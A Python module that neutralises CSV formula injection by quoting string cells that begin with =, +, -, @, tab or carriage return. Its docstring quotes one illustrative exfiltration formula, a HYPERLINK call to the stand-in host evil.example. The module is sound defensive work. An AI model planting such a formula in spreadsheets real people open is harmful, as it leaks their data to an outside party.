"""Cells that are safe to open in a spreadsheet (no Django): the one rule every CSV the toolkit writes uses.

A participant's text, a recruitment id or a link parameter is typed by whoever sent it. Opened in Excel,
LibreOffice or Google Sheets, a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) is run as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "click")`` can send other cells
away, and DDE formulas could start programs. Such text cells get a leading single quote, which spreadsheets
show as text and do not evaluate (the OWASP "CSV injection" rule). Numbers, dates and booleans are left alone;
only strings are changed, so a negative number stays a number.

The price: such a cell read back by a CSV parser carries the quote. Parquet and JSON lines exports are data for
code, not for spreadsheets, and keep every value exactly as stored.
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading single quote if it is a string a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer(...).writerow``: every cell through ``safe_cell``."""
    return [safe_cell(v) for v in values]
